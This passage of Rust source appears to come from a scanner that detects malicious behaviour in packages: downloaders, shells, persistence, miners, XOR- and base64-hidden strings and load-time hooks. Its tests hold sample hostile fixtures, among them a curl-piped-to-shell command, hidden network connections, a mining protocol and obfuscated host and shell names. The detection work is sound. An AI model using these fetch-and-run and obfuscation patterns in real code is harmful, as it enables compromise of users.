            if class == ProgramClass::Shell && SHELL_ENCODED_FLAGS.contains(&lower.as_str()) {
                spawn.expects_encoded = true;
                continue;
            }
            if class == ProgramClass::Other
                && (lower.contains("+x") || lower == "755" || lower == "777" || lower == "0755")
            {
                found.push(SignalKind::MakeExecutable {
                    target: "chmod".into(),
                });
                continue;
            }
            found.extend(literal_signals(s));
            if class == ProgramClass::Downloader
                && DOWNLOADER_OUTPUT_FLAGS.contains(&lower.as_str())
            {
                found.push(SignalKind::FileWrite {
                    target: "the downloader's output file".into(),
                });
            }
            if MINERS.iter().any(|m| lower == *m) {
                found.push(SignalKind::MinerFlag { flag: s.clone() });
            }
        }
        // `launchctl getenv`, `crontab -l`, `systemctl status`: a question to the scheduler,
        // which installs nothing.
        let queries = class == ProgramClass::Persistence
            && strings
                .iter()
                .any(|s| PERSISTENCE_QUERIES.contains(&s.to_ascii_lowercase().as_str()));
        // A scheduler told to install something runs the command lines it is given as a shell
        // does (a launch agent's `ProgramArguments`, a cron line, a unit's `ExecStart`): the
        // file's literals that read like command lines are read as such.
        if class == ProgramClass::Persistence {
            if let Some(spawn) = self.frames.last_mut().and_then(|f| f.spawn.as_mut()) {
                spawn.queried |= queries;
                if !spawn.queried && !strings.is_empty() {
                    self.saw_shell = true;
                }
            }
        }
        if queries {
            let scope = self.scope();
            self.signals.retain(|signal| {
                signal.scope != scope
                    || !matches!(
                        &signal.kind,
                        SignalKind::FileWrite { target } if target.starts_with("through `")
                    ) && !matches!(
                        &signal.kind,
                        SignalKind::Persistence { what } if what.starts_with('`')
                    )
            });
        }
        self.push_all(found, line);
    }

    fn resolve(&self, segments: &[String]) -> Vec<String> {
        let Some(first) = segments.first() else {
            return Vec::new();
        };
        match self.imports.get(first) {
            Some(full) => {
                let mut out: Vec<String> = full.split("::").map(str::to_owned).collect();
                out.extend(segments[1..].iter().cloned());
                out
            }
            None => segments.to_vec(),
        }
    }

    /// The function being read, if any.
    pub fn scope(&self) -> Option<u32> {
        self.frames.last().map(|f| f.id)
    }

    /// Whether the code being read is test code.
    pub fn in_test(&self) -> bool {
        self.test_depth > 0 || self.frames.last().is_some_and(|f| f.test)
    }

    fn current_context(&self) -> Context {
        let frame = self.frames.last();
        if self.test_depth > 0 || frame.is_some_and(|f| f.test) {
            if self.context.exposure() == super::context::Exposure::DevOnly {
                self.context
            } else {
                Context::Test
            }
        } else if frame.is_some_and(|f| f.load_time) {
            Context::LoadTime
        } else if self.emitted_depth > 0 && self.context == Context::ProcMacro {
            Context::Library
        } else {
            self.context
        }
    }

    fn take_budget(&mut self, amount: usize) -> bool {
        if self.brute_force_budget >= amount {
            self.brute_force_budget -= amount;
            true
        } else {
            false
        }
    }

    fn make(&self, kind: SignalKind, line: u32, scope: Option<u32>, context: Context) -> Signal {
        Signal {
            kind,
            context,
            file: self.file.to_owned(),
            line,
            snippet: self.snippet(line),
            scope,
            origin: Origin::Static,
        }
    }

    fn snippet(&self, line: u32) -> String {
        let index = (line as usize).saturating_sub(1);
        let Some(&start) = self.line_starts.get(index) else {
            return String::new();
        };
        let end = self
            .line_starts
            .get(index + 1)
            .copied()
            .unwrap_or(self.source.len());
        let text = self.source.get(start..end).unwrap_or("").trim();
        if text.chars().count() > 100 {
            let cut: String = text.chars().take(97).collect();
            format!("{cut}…")
        } else {
            text.to_owned()
        }
    }

    /// Adds a signal unless the same one is already recorded for this scope; returns whether it
    /// was added.
    fn push(&mut self, kind: SignalKind, line: u32) -> bool {
        let scope = self.scope();
        let context = self.current_context();
        let signal = self.make(kind, line, scope, context);
        if self
            .signals
            .iter()
            .rev()
            .take(64)
            .any(|s| s.kind == signal.kind && s.scope == scope && s.line == line)
        {
            return false;
        }
        self.signals.push(signal);
        true
    }

    /// Adds a signal once per scope (network use is reported at its first line).
    fn push_once(&mut self, kind: SignalKind, line: u32) {
        let scope = self.scope();
        let same = |s: &Signal| {
            s.scope == scope
                && match (&s.kind, &kind) {
                    // A connection the function holds (a field, a parameter) does not stand for
                    // one it makes, which the prefilter and the rules read apart.
                    (SignalKind::Network { how: a }, SignalKind::Network { how: b }) => {
                        held_connection(a) == held_connection(b)
                    }
                    (a, b) => a == b,
                }
        };
        if !self.signals.iter().any(same) {
            self.push(kind, line);
        }
    }

    fn push_all(&mut self, kinds: Vec<SignalKind>, line: u32) {
        for kind in kinds {
            self.push(kind, line);
        }
    }

    fn frame_context(&self, frame: &Frame) -> Context {
        if frame.test {
            Context::Test
        } else if frame.load_time {
            Context::LoadTime
        } else {
            self.context
        }
    }

    fn defer(&mut self, literal: PendingLiteral, line: u32, scope: Option<u32>, context: Context) {
        if self.deferred.len() < MAX_DEFERRED {
            self.deferred.push(Deferred {
                literal,
                line,
                scope,
                context,
            });
        }
    }

    /// Tries the file's byte arrays with its short arrays as repeating XOR keys, when the file
    /// XORs: the key is a constant like any other, often beside the data it decodes.
    fn decode_with_keys(&mut self) {
        if !self.file_hints.xor || self.xor_keys.is_empty() {
            return;
        }
        let keys = std::mem::take(&mut self.xor_keys);
        for data in std::mem::take(&mut self.xor_data) {
            let PendingLiteral::Bytes(bytes) = &data.literal else {
                continue;
            };
            for key in keys.iter().filter(|k| k.len() < bytes.len()) {
                if !self.take_budget(bytes.len()) {
                    return;
                }
                let found = decode::repeating_key_signals(bytes, key);
                if !found.is_empty() {
                    for kind in found {
                        let signal = self.make(kind, data.line, data.scope, data.context);
                        self.signals.push(signal);
                    }
                    break;
                }
            }
        }
    }

    /// Decodes the deferred literals with what the file's functions do, once all are seen.
    fn decode_deferred(&mut self) {
        let hints = self.file_hints;
        if !hints.any() {
            return;
        }
        for deferred in std::mem::take(&mut self.deferred) {
            let found = match &deferred.literal {
                PendingLiteral::Bytes(bytes) if self.take_budget(bytes.len()) => {
                    decode::byte_signals(bytes, hints)
                }
                PendingLiteral::Text(text) if self.take_budget(text.len()) => {
                    decode::string_signals(text, hints)
                }
                _ => continue,
            };
            for kind in found {
                let signal = self.make(kind, deferred.line, deferred.scope, deferred.context);
                self.signals.push(signal);
            }
        }
    }

    fn push_in(&mut self, frame: &Frame, kinds: Vec<SignalKind>, line: u32) {
        let context = self.frame_context(frame);
        for kind in kinds {
            let signal = self.make(kind, line, Some(frame.id), context);
            self.signals.push(signal);
        }
    }
}

/// Whether `text` is a shell script: its first line a `#!` naming a shell, directly
/// (`#!/bin/sh`) or through `env` (`#!/usr/bin/env bash`).
pub(super) fn is_shell_script(text: &str) -> bool {
    // Scripts in raw strings often start on the line after the opening quote.
    let Some(shebang) = text.trim_start().strip_prefix("#!") else {
        return false;
    };
    let first = shebang.lines().next().unwrap_or("");
    let mut words = first.split_whitespace();
    let mut interpreter = words.next().map(program_name).unwrap_or_default();
    if interpreter == "env" {
        // `env -S bash -e`, `env LANG=C sh`: the first word that is no option or assignment.
        interpreter = words
            .find(|w| !w.starts_with('-') && !w.contains('='))
            .map(program_name)
            .unwrap_or_default();
    }
    SHELLS.contains(&interpreter.as_str())
}

/// Whether a call path is a decoder of encoded text.
fn is_decoder_path(resolved: &[String]) -> bool {
    let joined = resolved.join("::");
    let last = resolved.last().map(String::as_str).unwrap_or("");
    (matches!(
        last,
        "decode" | "decode_config" | "decode_to_vec" | "from_hex" | "decode_engine"
    ) && DECODER_PATHS.iter().any(|w| joined.contains(w)))
        || joined.starts_with("hex::decode")
        || joined.starts_with("base64::decode")
}

fn has_exec_bits(arg: &Arg) -> bool {
    match arg {
        Arg::Int(mode) => *mode <= 0o7777 && mode & 0o111 != 0 && *mode >= 0o100,
        Arg::Expr(text) => text
            .split(|c: char| !c.is_ascii_alphanumeric() && c != '_')
            .filter_map(super::lexer::parse_int)
            .any(|mode| {
                (0o100..=0o7777).contains(&mode) && mode & 0o111 != 0 && text.contains("0o")
            }),
        _ => false,
    }
}

/// Whether a piece boundary falls inside one of the labels of `host`, wherever the host is in
/// `joined`: between two characters of a label, not next to a dot.
fn cuts_a_label(joined: &str, host: &str, cuts: &[usize]) -> bool {
    let bytes = joined.as_bytes();
    joined.match_indices(host).any(|(start, _)| {
        let end = start + host.len();
        cuts.iter()
            .any(|&cut| start < cut && cut < end && bytes[cut - 1] != b'.' && bytes[cut] != b'.')
    })
}

/// Shortest run of printable text read out of computed binary data: shorter runs are what any
/// table of numbers holds by chance (twelve printable bytes in a row come about once in a
/// hundred thousand places of random data).
const MIN_PRINTABLE_RUN: usize = 12;

/// The most runs of text read out of one computed value.
const MAX_PRINTABLE_RUNS: usize = 16;

/// A control byte that splits strings packed into one value (other than NUL, which
/// `judge_computed` splits on already): the ASCII file, group, record and unit separators.
fn is_separator(byte: u8) -> bool {
    matches!(byte, 0x1c..=0x1f)
}

/// The runs of printable ASCII (space included) in `bytes` at least [`MIN_PRINTABLE_RUN`]
/// long, the first [`MAX_PRINTABLE_RUNS`] of them: what `strings` would print. Runs joined by
/// separators (argv split on `\x1f`, fields on `\x1e`) are one run, each separator a space,
/// since that is the command line the program puts back together.
fn printable_runs(bytes: &[u8]) -> Vec<Vec<u8>> {
    let printable = |b: u8| (0x20..0x7f).contains(&b) || is_separator(b);
    bytes
        .split(|b| !printable(*b))
        .filter(|run| run.iter().filter(|b| !is_separator(**b)).count() >= MIN_PRINTABLE_RUN)
        .take(MAX_PRINTABLE_RUNS)
        .map(|run| {
            run.iter()
                .map(|&b| if is_separator(b) { b' ' } else { b })
                .collect()
        })
        .collect()
}

/// What of the signals of text the package's code computes (`found`, of `bytes`) it hides,
/// if anything. A service addressed by its parts (`{service}.{region}.amazonaws.com`) has its
/// domain written whole, so a destination is hidden only when the organisation it belongs to
/// (its last two labels, or the whole address) is written nowhere in the package; and text whose
/// every word is written somewhere (a base URL and a path) hides nothing.
fn hidden_only(
    mut found: Vec<SignalKind>,
    bytes: &[u8],
    constants: &Constants<'_>,
) -> Option<Vec<SignalKind>> {
    let before = found.len();
    found.retain(|kind| match kind {
        SignalKind::Destination { target, class } => {
            *class != HostClass::WellKnown && !constants.spells(registered_domain(host_of(target)))
        }
        _ => true,
    });
    // A hidden program or executable is a hidden indicator alone; what is left of destinations
    // written out is only the indicator that named them.
    let only_hidden = found
        .iter()
        .all(|kind| matches!(kind, SignalKind::HiddenIndicator { .. }));
    let emptied = found.is_empty() || (only_hidden && found.len() < before);
    // An executable's bytes are no words: a few of its strings written in a comment do not
    // make the program computed from the constants one anybody can read.
    let executable = found
        .iter()
        .any(|kind| matches!(kind, SignalKind::EmbeddedExecutable { .. }));
    (!emptied && (executable || !constants.spelled_out(bytes))).then_some(found)
}

/// The last two labels of a host name (`example.net` of `relay.example.net`), or the whole of an
/// address: who runs it, roughly.
pub(super) fn registered_domain(host: &str) -> &str {
    let host = host.trim_end_matches('.');
    if host
        .bytes()
        .all(|b| b.is_ascii_digit() || b == b'.' || b == b':')
    {
        return host;
    }
    match host.rmatch_indices('.').nth(1) {
        Some((at, _)) => &host[at + 1..],
        None => host,
    }
}

/// The host of a destination as the scanner reports it (`https://user@host:443/path`,
/// `+https://host/x)`, `192.0.2.7:443`, `host.example`).
pub(super) fn host_of(target: &str) -> &str {
    let rest = target.split_once("://").map_or(target, |(_, rest)| rest);
    // The authority ends at the path: an `@` after it is not a user's.
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let rest = authority
        .rsplit_once('@')
        .map_or(authority, |(_, rest)| rest);
    let end = rest
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '-' || c == '_'))
        .unwrap_or(rest.len());
    &rest[..end]
}

/// The last part of a receiver expression, for evidence.
fn receiver_tail(receiver: &str) -> String {
    let tail: String = receiver
        .chars()
        .rev()
        .take(40)
        .collect::<Vec<_>>()
        .into_iter()
        .rev()
        .collect();
    tail.trim().to_owned()
}

/// String literals inside an expression's text (`["-c", "curl …"]`).
fn quoted_strings(text: &str) -> Vec<String> {
    super::lexer::tokenize(text)
        .into_iter()
        .filter_map(|t| match t.kind {
            super::lexer::TokenKind::Str(s) => Some(s),
            _ => None,
        })
        .collect()
}

/// Whether an expression, as written, names anything besides string literals (`["-c", line]`
/// does, `["-c", "ls"]` does not).
fn has_identifier_outside_strings(expression: &str) -> bool {
    super::lexer::tokenize(expression).iter().any(|t| {
        matches!(t.kind, super::lexer::TokenKind::Ident(word) if !matches!(word, "vec" | "as" | "str"))
    })
}

/// Whether a literal reads like a command line rather than prose or data.
fn looks_like_command(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let first = lower
        .split_whitespace()
        .next()
        .unwrap_or("")
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or("")
        .trim_end_matches(".exe")
        .to_owned();
    DOWNLOADERS.contains(&first.as_str())
        || SHELLS.contains(&first.as_str())
        || PERSISTENCE_TOOLS.contains(&first.as_str())
        || RECON_TOOLS.contains(&first.as_str())
        || MINERS.contains(&first.as_str())
        || COMMAND_PREFIXES.iter().any(|w| first.starts_with(w))
        || COMMAND_CHAINS.iter().any(|w| lower.contains(w))
        || super::text::pipes_into_shell(&lower)
}

/// `powershell -EncodedCommand BASE64`: base64 of UTF-16LE text.
fn encoded_powershell(text: &str) -> Vec<SignalKind> {
    use base64::Engine;
    let Ok(bytes) = base64::engine::general_purpose::STANDARD.decode(text.trim()) else {
        return Vec::new();
    };
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|pair| u16::from_le_bytes([pair[0], pair[1]]))
        .collect();
    let script = String::from_utf16_lossy(&units);
    let mut found = shell_signals(&script);
    found.push(SignalKind::HiddenIndicator {
        encoding: "a base64 PowerShell command".into(),
        decoded: script.chars().take(80).collect(),
    });
    found
}

/// Whether a literal is a regular expression for key material: it has a regular expression's
/// brackets, classes or escapes, and one of [`KEY_PATTERN_MARKERS`], or asks for 64 hex digits.
fn looks_like_key_pattern(text: &str) -> bool {
    if text.len() > 4096 || !text.contains(['[', '\\', '{']) {
        return false;
    }
    let lower = text.to_ascii_lowercase();
    KEY_PATTERN_MARKERS.iter().any(|m| lower.contains(m))
        || (lower.contains("a-f") && (lower.contains("{64}") || lower.contains("{64,")))
}

/// Whether a literal is a regular expression for cryptocurrency addresses: a regular
/// expression's brackets or escapes and one of [`ADDRESS_PATTERN_MARKERS`] (`{40}` only with `0x`).
fn looks_like_address_pattern(text: &str) -> bool {
    if text.len() > 4096 || !text.contains(['[', '\\']) {
        return false;
    }
    let lower = text.to_ascii_lowercase();
    ADDRESS_PATTERN_MARKERS.iter().any(|m| match *m {
        "{40}" => lower.contains("0x") && lower.contains(m),
        _ => lower.contains(m),
    })
}

/// A literal program's file name, lower-cased, without its directory (`/usr/bin/Python3` →
/// `python3`).
fn program_base(program: &str) -> String {
    let program = program.trim();
    program
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(program)
        .to_ascii_lowercase()
}

/// A literal program's name without its directory, `.exe` or version (`/usr/bin/python3.12` →
/// `python`).
pub(super) fn program_name(program: &str) -> String {
    program_base(program)
        .trim_end_matches(".exe")
        .trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
        .to_owned()
}

/// Whether a program is a script interpreter (`python3.12`, `node.exe`, `perl`).
fn is_interpreter(program: &str) -> bool {
    INTERPRETERS.contains(&program_name(program).as_str())
}

/// Whether `program` (a literal) is a launcher: a program that starts the program named by its
/// first argument that is not a flag.
fn is_launcher(program: &str) -> bool {
    LAUNCHERS.contains(&program_base(program).as_str())
}

/// The program a launcher's arguments name, and the position of the argument naming it: the first
/// that is not a flag, a number (`nice -n 10`, `timeout 30`) or a variable's assignment
/// (`env A=1`). An argument computed at run time names a computed program.
fn launched_program(args: &[Arg]) -> Option<(usize, Arg)> {
    let is_option = |s: &str| {
        let s = s.trim();
        s.is_empty()
            || s.starts_with('-')
            || s.parse::<f64>().is_ok()
            || s.trim_end_matches(['s', 'm', 'h', 'd']).parse::<f64>().is_ok()
            // `taskset 0x3`, `taskset -c 0,2-3`.
            || s.starts_with("0x")
            || s.bytes().all(|b| b.is_ascii_digit() || b == b',' || b == b'-')
            || s.split_once('=').is_some_and(|(name, _)| {
                !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            })
    };
    // The first word that is neither an option nor an option's value.
    let first_program = |words: &[String]| {
        let mut value_next = false;
        words.iter().position(|word| {
            let lower = word.trim().to_ascii_lowercase();
            if value_next {
                value_next = false;
                return false;
            }
            value_next = LAUNCHER_VALUE_OPTIONS.contains(&lower.as_str());
            !is_option(word)
        })
    };
    let mut words: Vec<String> = Vec::new();
    for (at, arg) in args.iter().enumerate() {
        match arg {
            Arg::Str(s) => words.push(s.clone()),
            // A value computed at run time (`.arg(&path)`, `.arg(dir.join("x"))`,
            // `.args([&payload, "x"])`): the program, unless an option waits for its value.
            Arg::Expr(e) if has_identifier_outside_strings(e) => {
                if first_program(&words).is_some() {
                    break;
                }
                let waiting = words.last().is_some_and(|w| {
                    LAUNCHER_VALUE_OPTIONS.contains(&w.trim().to_ascii_lowercase().as_str())
                });
                if !waiting {
                    return Some((at, Arg::Expr(e.clone())));
                }
                words.push(String::new());
            }
            // `.args(["-n", "10", "./x"])` arrives as one array expression of literals.
            Arg::Expr(e) => words.extend(quoted_strings(e)),
            _ => words.push(String::new()),
        }
        if let Some(program) = first_program(&words) {
            return Some((at, Arg::Str(words[program].clone())));
        }
    }
    None
}

/// What kind of program a literal program name is.
pub fn classify_program(program: &str) -> ProgramClass {
    let trimmed = program.trim();
    let first_word = trimmed.split_whitespace().next().unwrap_or("");
    let base = first_word
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(first_word)
        .to_ascii_lowercase();
    let name = base.trim_end_matches(".exe");
    if MINERS.iter().any(|m| name.starts_with(m)) {
        return ProgramClass::Miner;
    }
    if DOWNLOADERS.contains(&name) || NETWORK_PROBES.contains(&name) {
        return ProgramClass::Downloader;
    }
    if SHELLS.contains(&name) {
        return ProgramClass::Shell;
    }
    if PERSISTENCE_TOOLS.contains(&name) {
        return ProgramClass::Persistence;
    }
    if RECON_TOOLS.contains(&name) || ENVIRONMENT_PROGRAMS.contains(&name) {
        return ProgramClass::Recon;
    }
    let lower = first_word.to_ascii_lowercase();
    let dropped = DROPPED_PATH_PREFIXES.iter().any(|p| lower.starts_with(p))
        || DROPPED_PATH_PARTS.iter().any(|p| lower.contains(p));
    if dropped {
        return ProgramClass::DroppedPath;
    }
    if BUILD_TOOLS.contains(&name)
        || BUILD_TOOL_PREFIXES.iter().any(|p| name.starts_with(p))
        || BUILD_TOOL_SUFFIXES.iter().any(|s| name.ends_with(s))
    {
        return ProgramClass::BuildTool;
    }
    ProgramClass::Other
}

/// The identifiers in an expression, minus the ubiquitous ones: used to link the file a function
/// writes to the program it runs.
pub fn identifiers(expression: &str) -> BTreeSet<String> {
    expression
        .split(|c: char| !(c.is_alphanumeric() || c == '_'))
        .filter(|w| !w.is_empty() && !w.starts_with(|c: char| c.is_ascii_digit()))
        .filter(|w| !GENERIC_IDENTIFIERS.contains(w))
        .map(str::to_owned)
        .collect()
}

/// Whether an included file is a script the scanner should read.
pub fn is_script_path(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    SCRIPT_EXTENSIONS.iter().any(|ext| lower.ends_with(ext))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Text inside computed binary data is read run by run, argv separators made spaces;
    /// short runs, which any table of numbers holds, are not.
    #[test]
    fn text_is_read_out_of_computed_binary_data() {
        let mut bytes = vec![0x57, 0xff];
        bytes.extend_from_slice(b"sh\x1f-c\x1fcurl -s http://192.0.2.1/x | sh");
        bytes.extend_from_slice(&[0x91, 0x00, 0xfe, b'a', b'b', b'c', 0x80]);
        assert_eq!(
            printable_runs(&bytes),
            vec![b"sh -c curl -s http://192.0.2.1/x | sh".to_vec()]
        );
        assert!(printable_runs(&[0x1f; 12]).is_empty());
    }

    /// The signals of one library file, parsed.
    fn parsed_signals(source: &str) -> Vec<SignalKind> {
        let constants = Constants::new(vec![("src/lib.rs", source.as_bytes())]);
        let mut next_scope = 0;
        let mut collector = Collector::new("src/lib.rs", Context::Library, source, &mut next_scope)
            .with_constants(&constants);
        super::super::syntax::analyse(&mut collector, source).expect("parses");
        collector.finish().0.into_iter().map(|s| s.kind).collect()
    }

    fn hides(source: &str) -> bool {
        parsed_signals(source)
            .iter()
            .any(|k| matches!(k, SignalKind::HiddenIndicator { .. }))
    }

    /// Options kept in a local and set one call at a time open a file for writing as a chain
    /// does; options set to read do not.
    #[test]
    fn options_in_a_local_open_for_writing() {
        let writes = |source: &str| {
            parsed_signals(source)
                .iter()
                .any(|k| matches!(k, SignalKind::FileWrite { .. }))
        };
        assert!(writes(
            "fn save(p: &std::path::Path, data: &[u8]) {\n\
                 let mut o = std::fs::OpenOptions::new();\n\
                 o.create(true).write(true).truncate(true);\n\
                 let _ = o.open(p).and_then(|mut f| std::io::Write::write_all(&mut f, data));\n\
             }"
        ));
        assert!(!writes(
            "fn load(p: &std::path::Path) {\n\
                 let mut o = std::fs::OpenOptions::new();\n\
                 o.read(true);\n\
                 let _ = o.open(p);\n\
             }"
        ));
        // Written where it lies, as a chain opening it `write(true)` without `create` is.
        assert!(parsed_signals(
            "fn scramble(p: &std::path::Path) {\n\
                 let mut o = std::fs::OpenOptions::new();\n\
                 o.write(true);\n\
                 let _ = o.open(p);\n\
             }"
        )
        .iter()
        .any(|k| matches!(k, SignalKind::RewritesInPlace { .. })));
    }

    /// An executable computed from constants is hidden, whatever of its text the package's
    /// comments spell; text whose every word is spelled somewhere hides nothing.
    #[test]
    fn an_executable_computed_from_constants_is_hidden_whatever_is_spelled() {
        let source = b"// writes FAKEPROGRAMTEXT and relay.example.net somewhere\n";
        let constants = Constants::new(vec![("src/lib.rs", source.as_slice())]);
        let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
        elf.extend_from_slice(b"FAKEPROGRAMTEXT");
        let executable = vec![
            SignalKind::EmbeddedExecutable { what: "ELF".into() },
            SignalKind::HiddenIndicator {
                encoding: "computed".into(),
                decoded: "an ELF executable".into(),
            },
        ];
        assert!(hidden_only(executable, &elf, &constants).is_some());
        let text = vec![SignalKind::HiddenIndicator {
            encoding: "computed".into(),
            decoded: "relay.example.net".into(),
        }];
        assert!(hidden_only(text, b"relay.example.net", &constants).is_none());
    }

    #[test]
    fn packing_commands_and_their_outputs() {
        let said = |words: &[&str]| words.iter().map(|w| (*w).to_owned()).collect::<Vec<_>>();
        for (program, words) in [
            ("tar", &["czf"][..]),
            ("tar", &["-cvzf"]),
            ("tar", &["--create"]),
            ("zip", &["-q", "-r"]),
            ("7z", &["a"]),
            ("git", &["bundle", "create"]),
            ("git", &["archive", "-o"]),
        ] {
            assert!(packs(program, &said(words)), "{program} {words:?}");
        }
        for (program, words) in [
            ("tar", &["xzf"][..]),
            ("tar", &["-C"]),
            ("tar", &["include"]),
            ("tar", &["tf"]),
            ("zip", &["-T"]),
            ("git", &["archive", "--remote=origin"]),
            ("git", &["bundle", "verify"]),
            ("curl", &["-o"]),
        ] {
            assert!(!packs(program, &said(words)), "{program} {words:?}");
        }
        assert!(output_follows("tar", &said(&["czf"])));
        assert!(
            !output_follows("tar", &said(&["czf", "out.tgz", "-C"])),
            "an input"
        );
        assert!(output_follows("git", &said(&["bundle", "create"])));
        assert!(output_follows(
            "git",
            &said(&["archive", "--format=zip", "-o"])
        ));
        assert!(output_follows("zip", &said(&["-r"])));
        assert!(
            !output_follows("zip", &said(&["-r", "out.zip"])),
            "an input"
        );
    }

    #[test]
    fn a_pools_protocol_assembled_by_a_function_is_read() {
        let source = r#"
            const NS: &str = "mining";
            fn m(s: &str) -> String {
                format!("{NS}.{s}")
            }
            fn hello() -> String {
                let direct = m("authorize");
                serde_json::json!({"id": 1, "method": m("subscribe")}).to_string()
            }
        "#;
        let found = parsed_signals(source);
        let methods: Vec<&SignalKind> = found
            .iter()
            .filter(|k| matches!(k, SignalKind::MiningProtocol { .. }))
            .collect();
        assert_eq!(methods.len(), 2, "{found:?}");
    }

    #[test]
    fn decoders_beyond_the_interpreter_still_fix_a_value() {
        let source = r#"
            struct Spin(u64);
            impl Spin { fn next(&mut self) -> u8 { self.0 ^= self.0 << 13; self.0 as u8 } }
            const TAG: [u8; 2] = [1, 2];
            fn unmask(seed: u64, data: &[u8]) -> String {
                let mut spin = Spin(seed);
                data.iter().map(|b| (b ^ spin.next()) as char).collect()
            }
            fn label(name: &str) -> String { format!("{name}-{}", Spin(1).0) }
            fn go() {
                let _ = unmask(7, &TAG);
                let _ = label("x");
                let _ = unmask(seed(), &TAG);
            }
        "#;
        let unread: Vec<SignalKind> = parsed_signals(source)
            .into_iter()
            .filter(|k| matches!(k, SignalKind::UnreadDecoding { .. }))
            .collect();
        // Not `label`, which only puts text together, nor a call with a value from elsewhere.
        assert_eq!(
            unread,
            vec![SignalKind::UnreadDecoding {
                call: "`unmask(…)`".to_owned()
            }]
        );
    }

    #[test]
    fn absolute_paths_in_macro_bodies_are_read() {
        // A procedural macro's emitted code and `macro_rules!` bodies write paths from `::`.
        let source = r#"
            fn emit() -> proc_macro2::TokenStream {
                quote::quote! {
                    fn __hook() {
                        let _ = ::std::net::TcpStream::connect(ADDRESS);
                        let _ = Vec::<u8>::new();
                    }
                }
            }
        "#;
        let found = parsed_signals(source);
        assert!(
            found.iter().any(
                |k| matches!(k, SignalKind::Network { how } if how.contains("TcpStream::connect"))
            ),
            "{found:?}"
        );
    }

    #[test]
    fn code_a_procedural_macro_emits_runs_in_its_users_program() {
        let source = r#"
            #[proc_macro_derive(Client)]
            pub fn derive(input: TokenStream) -> TokenStream {
                let probe = std::net::TcpStream::connect("192.0.2.7:80");
                emit()
            }
            fn emit() -> TokenStream {
                quote::quote! {
                    fn send() { let _ = ::std::net::TcpStream::connect(#address); }
                }.into()
            }
        "#;
        let constants = Constants::new(vec![("src/lib.rs", source.as_bytes())]);
        let mut next_scope = 0;
        let mut collector =
            Collector::new("src/lib.rs", Context::ProcMacro, source, &mut next_scope)
                .with_constants(&constants);
        super::super::syntax::analyse(&mut collector, source).expect("parses");
        let network: Vec<(Context, u32)> = collector
            .finish()
            .0
            .into_iter()
            .filter(|s| matches!(s.kind, SignalKind::Network { .. }))
            .map(|s| (s.context, s.line))
            .collect();
        assert_eq!(
            network,
            vec![(Context::ProcMacro, 4), (Context::Library, 9)],
            "the macro's own connection runs at build time, the emitted one in the user's program"
        );
    }

    #[test]
    fn load_time_sections_for_one_platform_are_hooks() {
        let source = r#"
            #[used]
            #[cfg_attr(target_os = "linux", link_section = ".init_array")]
            #[cfg_attr(windows, link_section = ".CRT$XCU")]
            static INIT: extern "C" fn() = { extern "C" fn init() {} init };
            #[cfg_attr(feature = "fast", inline)]
            #[cfg_attr(target_os = "linux", link_section = ".rodata.tables")]
            static TABLE: [u8; 2] = [1, 2];
        "#;
        let hooks: Vec<SignalKind> = parsed_signals(source)
            .into_iter()
            .filter(|k| matches!(k, SignalKind::LoadTimeHook { .. }))
            .collect();
        assert_eq!(hooks.len(), 1, "{hooks:?}");
    }

    #[test]
    fn a_program_the_package_spells_in_numbers_is_hidden() {
        let source = r#"
            const TABLE: &str = "/abcdefghijklmnopqrstuvwxyz";
            const SHELL: &[u8] = &[0, 2, 9, 14, 0, 19, 8];
            fn spell(data: &[u8]) -> String {
                data.iter().map(|b| TABLE.as_bytes()[(b & 0x7f) as usize] as char).collect()
            }
            fn run() { std::process::Command::new(spell(SHELL)).spawn(); }
        "#;
        let found = parsed_signals(source);
        assert!(
            found.iter().any(|k| matches!(k, SignalKind::HiddenIndicator { decoded, .. } if decoded.starts_with("/bin/sh"))),
            "{found:?}"
        );
    }

    #[test]
    fn constants_put_together_hide_only_what_no_file_spells() {
        // A host whose labels are kept apart.
        assert!(hides(
            r#"const NODE: &str = "relay"; const ZONE: &str = "example"; const TLD: &str = "net";
               fn f() { let u = format!("https://{}.{}.{}/in", NODE, ZONE, TLD); send(&u); }"#
        ));
        assert!(hides(
            r#"const LABELS: [&str; 3] = ["relay", "example", "net"];
               fn f() { let h = LABELS.join("."); send(&h); }"#
        ));
        // A well-known service addressed by its parts.
        assert!(!hides(
            r#"const SERVICE: &str = "s3"; const REGION: &str = "eu-west-3";
               fn f() { let h = format!("https://{}.{}.amazonaws.com/", SERVICE, REGION); send(&h); }"#
        ));
        // A base and a path, each spelled out.
        assert!(!hides(
            r#"const BASE: &str = "https://api.example.net"; const VERSION: &str = "v1";
               fn f() { let u = format!("{}/{}/items", BASE, VERSION); send(&u); }"#
        ));
    }

    #[test]
    fn program_names_from_number_tables() {
        for table in [
            "lbl(&[15, 14, 22, 4])",
            "decode(&[0x73u8, 0x68])",
            "name_of([7,18,])",
        ] {
            assert!(names_a_number_table(table), "{table}");
        }
        for not_table in [
            "&exe",
            "args[0]",
            "paths[1]",
            "tools[i]",
            "dir.join(NAMES[2])",
            "pick(&[a, b])",
            "which(&[\"sh\", \"bash\"])",
            "tools.join(\"adb\")",
            "b\"git\"",
        ] {
            assert!(!names_a_number_table(not_table), "{not_table}");
        }
        // A program expression of a hundred thousand brackets is not searched (it was quadratic).
        assert!(!names_a_number_table(&"[".repeat(100_000)));
        assert!(!names_a_number_table(&format!(
            "f(&[1, 2]){}",
            " ".repeat(600)
        )));
    }

    #[test]
    fn every_ref_is_a_mirror_or_a_wildcard_pushed_into_branches_or_tags() {
        for every in [
            "--mirror",
            "+refs/heads/*:refs/heads/*",
            "refs/tags/*:refs/tags/*",
            "+refs/remotes/origin/*:refs/heads/o/*",
            "+refs/*:refs/*",
        ] {
            assert!(selects_every_ref(every), "{every}");
        }
        for not_every in [
            "+refs/heads/*:refs/remotes/origin/*",
            "refs/heads/main:refs/heads/main",
            "refs/tags/v1.0",
            "--mirror=fetch",
            "mirror",
        ] {
            assert!(!selects_every_ref(not_every), "{not_every}");
        }
    }

    #[test]
